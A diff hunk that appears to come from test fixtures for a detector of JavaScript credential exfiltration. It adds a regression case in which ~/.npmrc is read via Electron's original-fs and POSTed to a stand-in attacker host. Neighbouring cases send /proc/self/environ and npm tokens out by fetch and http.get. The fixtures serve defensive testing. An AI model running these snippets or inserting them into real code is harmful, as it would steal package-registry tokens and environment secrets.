@@ -289,6 +289,14 @@ fetch('https://c.attacker.invalid/p', { method: 'POST', body: raw });`,
       details: ['/proc/self/environ (line 2) → fetch body (line 3)'],
     },
     {
+      // drift miss (issue 10): credential-file knew Electron's original-fs, exfiltration did not
+      name: '~/.npmrc read through original-fs and sent with fetch',
+      code: `const fs = require('original-fs'); const os = require('os');
+const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+fetch('https://c.attacker.invalid/n', { method: 'POST', body: npmrc });`,
+      details: ['~/.npmrc (line 2) → fetch body (line 3)'],
+    },
+    {
       name: 'eslint-scope: ~/.npmrc tokens into an http.get URL',
       code: `var http = require('http'), fs = require('fs'), os = require('os'), path = require('path');
 var content = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
